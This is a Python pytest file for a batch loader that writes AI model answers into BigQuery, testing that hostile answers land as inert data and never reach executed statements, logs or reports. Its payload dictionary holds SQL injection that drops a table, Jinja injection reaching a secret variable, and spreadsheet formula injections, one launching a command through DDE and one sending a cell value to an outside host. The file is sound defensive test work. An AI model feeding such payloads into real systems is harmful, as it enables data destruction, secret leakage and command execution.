"""Answers that mean harm, through the real load: they are data on the whole way, and land as they were given."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from load_side import World, answer, good, request_of
from scenario_side import readings, wrong_of

from airflow_batch_gemini.exceptions import LandingError
from airflow_batch_gemini.hooks.warehouse import WarehouseHook

if TYPE_CHECKING:
    from airflow_batch_gemini.batch.manifest import Medium

MARK = "hostile-"
SCHEMA = {
    "type": "OBJECT",
    "properties": {
        "said": {"type": "STRING"},
        "count": {"type": "INTEGER"},
        "share": {"type": "NUMBER"},
        "free": {"type": "OBJECT"},
    },
}
TEXTS = {
    "sql": f"'); DROP TABLE results; -- \\' \" ` */ {MARK}",
    "sql in a name": f"`{MARK}`; SELECT 1; @@error.message",
    "jinja": f"{MARK}{{{{ var.value.secret }}}} {{% raw %}} {{# note #}}",
    "format": f"{MARK}{{0}} %s %(key)s ${{x}} $x",
    "formula": f'=HYPERLINK("http://x/?"&A1,"{MARK}")',
    "formula that runs": f"+cmd|' /C calc'!A0 {MARK}",
    "formula of another sheet": f"@SUM(1+1)*{MARK}",
    "separators": f"a\u2028b\u2029c\x85d\x0b\x0c\x1c\x1e\r\n{MARK}",
    "nul": f"a\x00b\x01\x7f\x1b[31m {MARK}",
    "marks of order": f"\u202e{MARK}\u2066\ufeff\u200b",
    "no characters": f"\ufffe\uffff\U0010ffff{MARK}",
    "ten megabytes": MARK + "x" * 10_000_000,
}
"""What a model may say, as a whole answer and as the value of a typed column."""

JSONS = {
    "deep": '{"free": ' + '{"a":' * 400 + f'"{MARK}"' + "}" * 401,
    "too deep": '{"free": ' + '{"a":' * 700 + f'"{MARK}"' + "}" * 701,
    "unending": '{"free": ' + "[" * 200_000,
    "half a character": f'{{"said": "{MARK}\\ud800"}}',
    "halves in the wrong order": f'{{"said": "{MARK}\\udc00\\ud800"}}',
    "two halves": f'{{"said": "{MARK}\\ud83d\\ude00"}}',
    "half a name": f'{{"\\udfff": "{MARK}"}}',
    "nul as an escape": f'{{"said": "{MARK}\\u0000"}}',
    "huge": '{"share": 1e400}',
    "endless digits": '{"count": ' + "9" * 5000 + "}",
    "beyond 64 bits": '{"count": 9223372036854775808}',
    "almost nothing": '{"share": 1e-400}',
    "no number": '{"share": NaN}',
    "twice": f'{{"said": "{MARK}", "said": 5}}',
    "another prototype": f'{{"__proto__": {{"said": 1}}, "constructor": "{MARK}", "said": "x"}}',
}
"""Answers that are JSON, or almost."""

ENDS = {
    "too deep": ("invalid", "NOT_JSON"),
    "unending": ("invalid", "NOT_JSON"),
    "half a character": ("invalid", "NOT_JSON"),
    "halves in the wrong order": ("invalid", "NOT_JSON"),
    "half a name": ("invalid", "NOT_JSON"),
    "huge": ("invalid", "NOT_JSON"),
    "endless digits": ("invalid", "NOT_JSON"),
    "beyond 64 bits": ("invalid", "NOT_INTEGER"),
    "no number": ("invalid", "NOT_JSON"),
}
"""How those end under the schema that do not succeed."""


def answers() -> dict[str, str]:
    """By key: each text as it is, each as a value, and each JSON."""
    values = {f"{name}, as a value": json.dumps({"said": text}) for name, text in TEXTS.items()}
    return TEXTS | values | JSONS


def statements() -> list[str]:
    """Everything that BigQuery was ever asked to run."""
    hook = WarehouseHook()
    try:
        return [
            str(job.to_api_repr()["configuration"]) for job in hook.client("demo").list_jobs(all_users=True)
        ]
    finally:
        hook.close()


@pytest.mark.parametrize("schema", [None, SCHEMA], ids=["text", "typed"])
@pytest.mark.parametrize("predictions", ["gcs", "bigquery"])
def test_hostile_answers_land_as_they_were_given_and_are_in_no_statement(
    world: World,
    capsys: pytest.CaptureFixture[str],
    schema: dict[str, Any] | None,
    predictions: Medium,
) -> None:
    """Nor in the log, nor in the report; the rule says which of them fit the schema."""
    said = answers()
    world.keys, world.schema, world.predictions = [list(said)], schema, predictions
    world.prepare()
    lines = [answer(key, good(text)) for key, text in said.items()]
    world.answered(0, lines)
    report = world.load()
    results = {row["key"]: row for row in world.rows()}
    errors = {row["key"]: row for row in world.rows("results_errors")}
    assert {key: row["text"] for key, row in (results | errors).items()} == said
    expected = readings(list(said), lines, {key: request_of(key) for key in said}, schema)
    assert wrong_of(expected, results, errors) == {}
    if schema is None:
        assert errors == {}
    else:
        ends = {key: (row["outcome"], row["reason"]) for key, row in errors.items()}
        assert ends == dict.fromkeys(TEXTS, ("invalid", "NOT_JSON")) | ENDS
        assert {name: results[f"{name}, as a value"]["said"] for name in TEXTS} == TEXTS
        assert results["two halves"]["said"] == f"{MARK}😀"
        assert results["twice"]["said"] == MARK
    ran = statements()
    assert any("MERGE" in one and world.dataset.partition(".")[2] in one for one in ran)
    told = [*ran, json.dumps(report), *capsys.readouterr()]
    assert not [text for text in told if MARK in text]


def nested(levels: int) -> Any:
    found: Any = "x"
    for _ in range(levels):
        found = [found]
    return found


@pytest.mark.parametrize(
    "response",
    [good("half \ud800"), {**good("x"), "unknown": nested(600)}, {**good("x"), "half \udfff": 1}],
    ids=["half a character", "too deep", "half a name"],
)
def test_a_line_that_bigquery_cannot_hold_is_a_corrupt_line(world: World, response: dict[str, Any]) -> None:
    """Told and counted like any line that is no JSON; the others land."""
    world.answered(0, [answer("a", response), answer("b", good("b"))])
    world.answered(1, [answer("d", good("d"))])
    with pytest.raises(LandingError, match="failed: invalid: "):
        world.load()
    report = world.load(max_corrupt_lines=1)
    assert report["corrupt_lines"] == 1
    assert world.outcomes() == {"a": "missing", "b": "succeeded", "c": "missing", "d": "succeeded"}
